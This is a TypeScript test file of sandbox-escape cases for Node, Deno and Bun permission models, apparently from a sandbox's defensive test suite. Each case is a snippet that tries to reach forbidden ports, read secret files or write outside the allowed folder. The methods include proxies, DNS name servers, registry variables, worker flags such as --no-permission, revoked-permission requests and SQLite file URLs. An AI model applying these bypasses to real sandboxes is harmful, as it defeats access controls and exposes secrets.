// Clients of services, proxies, registries, and files of databases, caches and profiles: what a runtime brings along.
import { escape, type Escape } from "../programs.ts";

const CLIENTS = "a client with connections of its own";
const PROXIES = "a proxy is a host, too";
const BINDINGS = "CVE-2023-32558: process.binding";
const STORES = "what stores data for a program opens files itself";
const VARIABLES = "variables that name files, read after the program has set them";
const WORKERS = "flags and variables of a worker";
const UNIX = "CVE-2026-21636, CVE-2026-21711: Unix sockets beside the rules of the network";

const wait = "await sleep(600); process.exit(0)";
const ended = 'await new Promise((done) => { worker.on("error", done); worker.on("exit", done); })';

export const services: Escape[] = [
  escape(
    "Bun.udpSocket",
    CLIENTS,
    "reached",
    `try { const socket = await Bun.udpSocket({}); socket.send("x", place.otherPort, "127.0.0.1"); } catch {} ${wait}`,
    { home: "bun" },
  ),
  escape(
    "fetch with a proxy",
    PROXIES,
    "reached",
    'await fetch("http://127.0.0.1:" + place.allowedPort + "/", { proxy: "http://127.0.0.1:" + place.otherPort }).catch(() => {}); process.exit(0)',
    { home: "bun" },
  ),
  escape(
    "a client with a proxy",
    PROXIES,
    "reached",
    'try { const client = Deno.createHttpClient({ proxy: { url: "http://127.0.0.1:" + place.otherPort } }); await fetch("http://127.0.0.1:" + place.allowedPort + "/", { client }); } catch {} Deno.exit(0)',
    { home: "deno" },
  ),
  escape(
    "a client with a proxy at a Unix socket",
    UNIX,
    "reached",
    'try { const client = Deno.createHttpClient({ proxy: { transport: "unix", path: place.socket } }); await fetch("http://127.0.0.1:" + place.allowedPort + "/", { client }); } catch {} Deno.exit(0)',
    { home: "deno" },
  ),
  escape(
    "an agent with a proxy",
    PROXIES,
    "reached",
    `const http = require("node:http"); const agent = new http.Agent({ proxyEnv: { HTTP_PROXY: "http://127.0.0.1:" + place.otherPort } }); http.get({ host: "127.0.0.1", port: place.allowedPort, agent }).on("error", () => {}); ${wait}`,
  ),
  escape(
    "a proxy for all requests",
    PROXIES,
    "reached",
    `const http = require("node:http"); http.setGlobalProxyFromEnv({ http_proxy: "http://127.0.0.1:" + place.otherPort }); http.get({ host: "127.0.0.1", port: place.allowedPort }).on("error", () => {}); await fetch("http://127.0.0.1:" + place.allowedPort).catch(() => {}); ${wait}`,
  ),
  escape(
    "tcp_wrap",
    BINDINGS,
    "reached",
    `try { const { TCP, TCPConnectWrap } = process.binding("tcp_wrap"); new TCP(0).connect(new TCPConnectWrap(), "127.0.0.1", place.otherPort); } catch {} try { net.connect(place.otherPort, "127.0.0.1").on("error", () => {}); } catch {} ${wait}`,
  ),
  escape(
    "udp_wrap",
    BINDINGS,
    "reached",
    `try { const { UDP } = process.binding("udp_wrap"); new UDP().send({}, [Buffer.from("x")], 1, place.otherPort, "127.0.0.1", false); } catch {} try { const socket = require("node:dgram").createSocket("udp4"); socket.on("error", () => {}); socket.send("x", place.otherPort, "127.0.0.1", () => {}); } catch {} ${wait}`,
  ),
  escape(
    "a datagram with a lookup of its own",
    "DNS rebinding",
    "reached",
    `const socket = require("node:dgram").createSocket({ type: "udp4", lookup: (host, options, done) => (typeof options === "function" ? options : done)(null, "127.0.0.1", 4) }); socket.on("error", () => {}); socket.send("x", place.otherPort, "allowed.example", () => {}); ${wait}`,
  ),
  escape(
    "Deno.listenDatagram that sends",
    CLIENTS,
    "reached",
    'try { const socket = Deno.listenDatagram({ transport: "udp", port: 0, hostname: "127.0.0.1" }); await socket.send(new Uint8Array(1), { transport: "udp", port: place.otherPort, hostname: "127.0.0.1" }); } catch {} try { require("node:dgram").createSocket("udp4").on("error", () => {}).send("x", place.otherPort, "127.0.0.1"); } catch {} await sleep(300); Deno.exit(0)',
    { home: "deno" },
  ),
  escape(
    "WebSocketStream",
    CLIENTS,
    "reached",
    'try { await new WebSocketStream("ws://127.0.0.1:" + place.otherPort).opened; } catch {} try { new WebSocket("ws://127.0.0.1:" + place.otherPort).onerror = () => {}; } catch {} await sleep(400); Deno.exit(0)',
    { home: "deno" },
  ),
  escape(
    "a name server of Deno.resolveDns",
    "DNS carries data to any host",
    "reached",
    'await Deno.resolveDns("secret.example", "A", { nameServer: { ipAddr: "127.0.0.1", port: place.otherPort }, signal: AbortSignal.timeout(800) }).catch(() => {}); Deno.exit(0)',
    { home: "deno" },
  ),
  escape(
    "a registry from the environment",
    VARIABLES,
    "reached",
    `process.env.npm_config_registry = process.env.NPM_CONFIG_REGISTRY = "http://127.0.0.1:" + place.otherPort + "/"; await import("npm:escape-of-brio@9.9.9").catch(() => {}); await fetch("http://127.0.0.1:" + place.otherPort).catch(() => {}); ${wait}`,
    { home: "deno" },
  ),
  escape(
    "a registry of JSR from the environment",
    VARIABLES,
    "reached",
    `process.env.JSR_URL = "http://127.0.0.1:" + place.otherPort + "/"; await import("jsr:@escape/of-brio@9").catch(() => {}); await fetch("http://127.0.0.1:" + place.otherPort).catch(() => {}); ${wait}`,
    { home: "deno" },
  ),
  escape(
    "a server at a Unix socket outside",
    UNIX,
    "change",
    'net.createServer().on("error", () => process.exit(0)).listen(outside + "/new.sock"); await sleep(200); process.kill(process.pid, "SIGKILL")',
  ),
  escape(
    "an HTTP server at a Unix socket outside",
    UNIX,
    "change",
    'require("node:http").createServer().on("error", () => process.exit(0)).listen({ path: outside + "/new.sock" }); await sleep(200); process.kill(process.pid, "SIGKILL")',
  ),
  escape(
    "Deno.listen at a Unix socket outside",
    UNIX,
    "change",
    'Deno.listen({ transport: "unix", path: outside + "/new.sock" }); process.kill(process.pid, "SIGKILL")',
    { home: "deno" },
  ),
  escape(
    "Deno.serve at a Unix socket outside",
    UNIX,
    "change",
    'Deno.serve({ path: outside + "/new.sock" }, () => new Response("")); await sleep(100); process.kill(process.pid, "SIGKILL")',
    { home: "deno" },
  ),
  escape(
    "Bun.serve at a Unix socket outside",
    UNIX,
    "change",
    'Bun.serve({ unix: outside + "/new.sock", fetch: () => new Response("") }); await sleep(100); process.kill(process.pid, "SIGKILL")',
    { home: "bun" },
  ),
  escape(
    "file systems of SQLite",
    STORES,
    "secret",
    'const { DatabaseSync } = require("node:sqlite"); for (const vfs of ["unix", "unix-none", "unix-dotfile", "unix-excl", "memdb", "brio", ""]) { try { const db = new DatabaseSync(":memory:"); db.exec("attach \'file:" + outside + "/secret.db?mode=ro" + (vfs && "&vfs=" + vfs) + "\' as o"); show(db.prepare("select * from o.t").all()); } catch {} }',
  ),
  escape(
    "a database by an address",
    STORES,
    "secret",
    'const { DatabaseSync } = require("node:sqlite"); for (const name of [pathToFileURL(outside + "/secret.db"), pathToFileURL(outside + "/secret.db").href, Buffer.from(outside + "/secret.db"), "file://localhost" + outside + "/secret.db", "file:" + inside + "/../outside/secret.db"]) { try { show(new DatabaseSync(name, { readOnly: true }).prepare("select * from t").all()); } catch {} }',
  ),
  escape(
    "a database through a link",
    STORES,
    "secret",
    'const { DatabaseSync } = require("node:sqlite"); show(new DatabaseSync(inside + "/link-to-outside/secret.db", { readOnly: true }).prepare("select * from t").all())',
  ),
  escape(
    "Deno.openKv",
    STORES,
    "change",
    'try { const kv = await Deno.openKv(outside + "/kv.db"); await kv.set(["a"], 1); } catch (error) { say(error.message); Deno.writeTextFileSync(outside + "/new", ""); }',
    { home: "deno" },
  ),
  escape(
    "localStorage with another home",
    VARIABLES,
    "change",
    'for (const name of ["HOME", "XDG_CACHE_HOME", "DENO_DIR"]) { try { process.env[name] = outside; } catch {} } try { localStorage.setItem("a", "b"); } catch {} try { await caches.open("a"); } catch {} Deno.writeTextFileSync(outside + "/new", "")',
    { home: "deno" },
  ),
  escape(
    "coverage by a variable",
    VARIABLES,
    "change",
    'try { process.env.NODE_V8_COVERAGE = outside; } catch {} try { require("node:v8").takeCoverage(); } catch {} const { Worker } = require("node:worker_threads"); const worker = new Worker("require(\'node:v8\').takeCoverage()", { eval: true, env: { NODE_V8_COVERAGE: outside } }); ' +
      ended +
      '; fs.writeFileSync(outside + "/new", "")',
  ),
  escape(
    "a profile of a worker",
    WORKERS,
    "change",
    'const { Worker } = require("node:worker_threads"); try { const worker = new Worker("1", { eval: true, execArgv: ["--cpu-prof", "--cpu-prof-dir", outside] }); ' +
      ended +
      ' } catch {} fs.writeFileSync(outside + "/new", "")',
  ),
  escape(
    "a report of a worker",
    WORKERS,
    "change",
    'const { Worker } = require("node:worker_threads"); const worker = new Worker("process.report.directory = " + JSON.stringify(outside) + "; process.report.writeReport()", { eval: true }); ' +
      ended,
  ),
  escape(
    "NODE_OPTIONS of a worker",
    WORKERS,
    "secret",
    'const { Worker } = require("node:worker_threads"); const worker = new Worker("require(" + JSON.stringify(outside + "/module.cjs") + ")", { eval: true, env: { NODE_OPTIONS: "--require " + outside + "/module.cjs" } }); ' +
      ended,
  ),
  escape(
    "a file of variables of a worker",
    WORKERS,
    "secret",
    'const { Worker } = require("node:worker_threads"); try { const worker = new Worker("process.stdout.write(JSON.stringify(process.env))", { eval: true, execArgv: ["--env-file=" + outside + "/secret.env"] }); ' +
      ended +
      ' } catch {} process.loadEnvFile(outside + "/secret.env"); say(process.env.ESCAPE_FROM_FILE)',
  ),
  escape(
    "an import of a worker",
    WORKERS,
    "secret",
    'const { Worker } = require("node:worker_threads"); fs.writeFileSync(work + "/own.cjs", ""); const worker = new Worker(work + "/own.cjs", { execArgv: ["--import", pathToFileURL(outside + "/module.cjs").href] }); ' +
      ended,
  ),
  escape(
    "a worker without the permission model",
    WORKERS,
    "secret",
    'const { Worker } = require("node:worker_threads"); for (const execArgv of [["--no-permission"], ["--allow-fs-read=*"], ["--permission", "--allow-fs-read=*"], ["--allow-all"], ["-A"], []]) { try { const worker = new Worker("process.stdout.write(require(\'fs\').readFileSync(" + JSON.stringify(secretFile) + ", \'latin1\'))", { eval: true, execArgv }); ' +
      ended +
      " } catch {} }",
  ),
  escape(
    "a test with a permission",
    "a test that asks for more than the program has",
    "secret",
    'try { Deno.test({ name: "x", permissions: { read: true }, fn: () => say(Deno.readTextFileSync(secretFile)) }); } catch {} await sleep(50); say(Deno.readTextFileSync(secretFile))',
    { home: "deno" },
  ),
  escape(
    "a permission that was revoked",
    "what was given up comes back",
    "secret",
    'await Deno.permissions.revoke({ name: "read", path: inside }); await Deno.permissions.request({ name: "read", path: inside }); await Deno.permissions.request({ name: "read" }); say(Deno.readTextFileSync(secretFile))',
    { home: "deno" },
  ),
  escape(
    "a temporary folder by a variable",
    VARIABLES,
    "change",
    'for (const name of ["TMPDIR", "TMP", "TEMP"]) { try { process.env[name] = outside; } catch {} } try { fs.mkdtempSync(os.tmpdir() + "/x-"); } catch {} fs.mkdtempSync(outside + "/y-")',
  ),
  escape(
    "Deno's temporary folder by a variable",
    VARIABLES,
    "change",
    "try { process.env.TMPDIR = outside; } catch {} try { Deno.makeTempFileSync(); } catch {} Deno.makeTempDirSync({ dir: outside })",
    { home: "deno" },
  ),
  escape(
    "tracing into the current folder",
    STORES,
    "change",
    'try { process.chdir(outside); require("node:trace_events").createTracing({ categories: ["node"] }).enable(); performance.mark("a"); } catch {} await sleep(100); fs.writeFileSync(outside + "/new", "")',
  ),
  escape(
    "a snapshot near the limit",
    STORES,
    "change",
    'try { process.chdir(outside); } catch {} require("node:v8").writeHeapSnapshot(outside + "/new.heapsnapshot")',
  ),
  escape("Bun.write of a response", STORES, "change", 'await Bun.write(outside + "/new", new Response("x"))', {
    home: "bun",
  }),
  escape(
    "Bun.write that makes folders",
    STORES,
    "change",
    'await Bun.write(outside + "/a/b/c", "x", { createPath: true })',
    { home: "bun" },
  ),
  escape("a redirection of Bun.$", STORES, "change", "await Bun.$`echo x > ${outside}/new`.nothrow().quiet()", {
    home: "bun",
  }),
  escape("a folder of Bun.$", STORES, "secret", "say(await Bun.$`ls`.cwd(outside).nothrow().text())", { home: "bun" }),
  escape(
    "a name in a name of Bun.$",
    STORES,
    "secret",
    "say(await Bun.$`echo ${{ raw: outside }}/*`.nothrow().text())",
    { home: "bun" },
  ),

  // Unix datagrams of Deno.
  escape(
    "a datagram of Deno to a Unix socket",
    "datagrams name their receivers themselves",
    "killed",
    'const own = Deno.listenDatagram({ transport: "unixpacket" }); for (const path of [outside + "/../datagrams", inside + "/link-to-outside/../datagrams"]) await own.send(new Uint8Array(1), { transport: "unixpacket", path }).catch(() => {}); await sleep(100); process.exit(0)',
    { home: "deno", native: true },
  ),
  escape(
    "a datagram of Deno through a link",
    "datagrams name their receivers themselves",
    "killed",
    'fs.symlinkSync(path.join(outside, "../datagrams"), work + "/link"); const own = Deno.listenDatagram({ transport: "unixpacket", path: work + "/own" }); await own.send(new Uint8Array(1), { transport: "unixpacket", path: work + "/link" }); await sleep(100); process.exit(0)',
    { home: "deno", native: true },
  ),
  escape(
    "a datagram socket of Deno outside",
    "a socket is a file",
    "change",
    'Deno.listenDatagram({ transport: "unixpacket", path: outside + "/empty/socket" }); process.exit(0)',
    { home: "deno" },
  ),
];
